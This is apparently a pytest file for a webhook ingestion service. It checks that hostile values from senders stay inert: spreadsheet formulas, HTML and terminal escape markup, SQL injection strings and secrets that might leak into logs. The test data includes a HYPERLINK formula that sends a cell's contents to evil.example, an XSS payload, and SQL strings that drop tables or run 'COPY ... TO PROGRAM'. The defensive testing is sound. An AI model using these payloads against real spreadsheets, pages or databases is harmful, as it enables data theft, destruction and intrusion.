"""What people and programs see later: names that are formulas, markup, SQL, or secrets."""

import csv
import io
import json
import logging
from collections.abc import AsyncIterator, Iterator
from decimal import Decimal
from typing import Any

import pytest
from rich.console import Console

from hookline.console import output
from hookline.console.csv_cells import csv_cell
from runtime import logs, metrics_page
from runtime.settings import Settings
from schemas.events import CustomerRef, Event, LineItem
from sinks.postgres.migrate import migrate
from tests import screens
from tests.hostile.cases import case
from tests.hostile.house import GOOD, GOOTEN, signed, spiffy
from tests.served import Served, request, status
from tests.sink_events import NOON, Tables, order

SECTION = "What is shown later"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"paid")'
MARKUP = '<img src=x onerror="alert(1)">[/][bold][link=http://evil.example]paid[/link]'
STEERING = "\x1b[2J\x1b]8;;http://evil.example\x07paid\u202e"


@case(SECTION, "a formula as a name", 200, "as received; a CSV cell begins with a quote instead")
@pytest.mark.parametrize(
    "name", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u200b=1", "\x1b=1"]
)
def test_a_formula_in_a_name_is_a_text_in_a_csv_file(name: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([csv_cell(name), csv_cell("-5.00")])

    assert [["'" + name, "-5.00"]] == list(csv.reader(io.StringIO(file.getvalue(), newline="")))


@case(SECTION, "HTML, terminal markup and escape sequences as a name", 200,
      "as received; a terminal shows them as text, no page shows them")  # fmt: skip
@pytest.mark.parametrize("name", [MARKUP, STEERING])
def test_markup_in_a_name_is_text_in_a_terminal(name: str) -> None:
    console = Console(file=io.StringIO(), force_terminal=True, width=300)
    console.print(output.table(None, ("name",), [(name,)]))
    drawn = console.file.getvalue()  # type: ignore[attr-defined]

    assert "\x1b[2J" not in drawn
    assert "\x1b]8;" not in drawn
    assert "\u202e" not in drawn
    assert name.partition("\x1b")[0] in drawn
    assert "paid" in drawn


@case(SECTION, "C1, DEL, directions of writing, characters without width, line separators", 200,
      "as received; a terminal, a log and JSON show escapes, and JSON means the same")  # fmt: skip
@pytest.mark.parametrize("each", screens.STEERING)
def test_no_character_of_a_sender_steers_a_terminal(each: str, written: io.StringIO) -> None:
    console = output.Screen(file=io.StringIO(), width=300)
    console.print(f"<{each}>", output.table(None, ("name",), [(f"<{each}>",)]))
    logs.get("hookline.test").warning(f"<{each}>", name=f"<{each}>", error=ValueError(each))
    document = output.to_json({"name": f"<{each}>"})
    drawn = console.file.getvalue()  # type: ignore[attr-defined]

    assert not any(screens.steers(shown) for shown in (drawn, written.getvalue(), document))
    assert json.loads(document) == {"name": f"<{each}>"}
    assert json.loads(written.getvalue())["name"] == f"<{each}>"


@case(SECTION, "HTML as id, event, header and query of a delivery", 200,
      "as received; metrics and answers hold none of it")  # fmt: skip
async def test_no_page_shows_what_a_sender_wrote(served: Served) -> None:
    mark = "<blink>x</blink>"
    body = f'{{"id": "{mark}"}}'.encode()
    headers = (signed(body), f"X-Spiffy-Shop-Domain: {mark}", f"Content-Type: {mark}")
    answers = [await served.exchange(spiffy(body, *headers, topic=mark))]
    assert status(answers[0]) == 200
    answers.append(await served.exchange(request(GOOD, path=f"/hooks/{mark}/{mark}?{mark}")))
    answers += [
        await served.exchange(request(path=page, method="GET"))
        for page in ("/metrics", "/readyz", "/healthz", f"/{mark}")
    ]

    assert [status(answer) for answer in answers] == [200, 404, 404, 404, 200, 404]
    assert not any(b"blink" in answer for answer in [*answers, metrics_page.render()])
    assert not any(b"text/html" in answer for answer in answers)


INJECTIONS = (
    "'; DROP TABLE orders; --",
    '"; DELETE FROM customers; --',
    "1); TRUNCATE fences; --",
    "$$; SELECT pg_sleep(10); $$",
    "\\'; COPY orders TO PROGRAM 'true'; --",
    "%s %(x)s {} {0} :x $1 ?",
)
ITEM_TEXT_COLUMNS = ("line_id", "product_id", "variant_id", "sku", "name", "status_word")
TEXT_COLUMNS = ("order_number", "cart_id", "cart_token", "status_word", "fulfillment_word")


@pytest.fixture
async def tables(stack: Any) -> AsyncIterator[Tables]:
    settings: Settings = stack.settings()
    migrate(settings)
    async with Tables(settings) as ready:
        yield ready


def injected(number: int, text: str) -> Event:
    """An order whose every text is this one."""
    in_line: dict[str, Any] = dict.fromkeys(ITEM_TEXT_COLUMNS, text)
    in_order: dict[str, Any] = dict.fromkeys(TEXT_COLUMNS, text)
    price: dict[str, Any] = {"unit_price": Decimal(1), "line_total": Decimal(1)}
    return order(
        text,
        NOON + number,
        source="ciklik",
        customer=CustomerRef(customer_id=text, email_hash=text),
        items=[LineItem(**in_line, **price, quantity=1, attributes={text: text})],
        attributes={text: text},
        **in_order,
    )


@pytest.mark.stack
@case(SECTION, "SQL in every string of an order", 200, "as text, in its column; nothing is run")
async def test_sql_in_every_string_is_text(tables: Tables) -> None:
    names = "SELECT count(*) FROM pg_tables WHERE schemaname = current_schema()"
    before = tables.rows(names)
    await tables.put(injected(number, text) for number, text in enumerate(INJECTIONS))

    stored = f"SELECT order_id, customer_id, email_hash, {', '.join(TEXT_COLUMNS)} FROM orders"  # noqa: S608 - our own names
    assert sorted(tables.rows(stored)) == sorted(
        (text,) * (3 + len(TEXT_COLUMNS)) for text in INJECTIONS
    )
    customers = tables.rows("SELECT customer_key FROM customer_lifetime_value ORDER BY 1")
    assert customers == [(f"ciklik/main/customer:{text}",) for text in sorted(INJECTIONS)]
    assert before == tables.rows(names)


@pytest.fixture
def written() -> Iterator[io.StringIO]:
    """What this process logs, at its most talkative."""
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    stream = io.StringIO()
    logs.configure(Settings(log_format="json", log_level="debug"), "ingest", stream)
    yield stream
    root.handlers[:], root.level = handlers, level


@case(SECTION, "secrets and e-mail addresses in URLs, headers and bodies, accepted or refused",
      "as for others", "in the raw record alone; no log of a test run holds any")  # fmt: skip
async def test_no_log_holds_what_was_sent(served: Served, written: io.StringIO) -> None:
    address, guess = "jane.doe@shop.example", "a-guessed-token"
    body = f'{{"Id": "{address}", "phone": "15550001111"}}'.encode()
    query = f"?email={address}&token={guess}"
    headers = (
        f"Authorization: Bearer {guess}",
        f"Cookie: {guess}",
        f"From: {address}",
        signed(body),
    )
    answers = [
        status(await served.exchange(request(body, *headers, path=path + query)))
        for path in (GOOTEN, f"/hooks/gooten/prints/{guess}", f"/hooks/{guess}/{address}")
    ]
    answers.append(status(await served.exchange(request(b"", f"X: {guess}\0", path=f"/{guess}"))))
    served.publisher.refuses = f"no room for {address}"
    answers.append(status(await served.exchange(request(body, *headers, path=GOOTEN + query))))
    lines = written.getvalue()

    assert answers == [200, 401, 404, 400, 503]
    assert lines.count('"event": "refused"') == 3
    for secret in (address, guess, "15550001111", "t0ken-of-prints", "key-of-johns"):
        assert secret not in lines
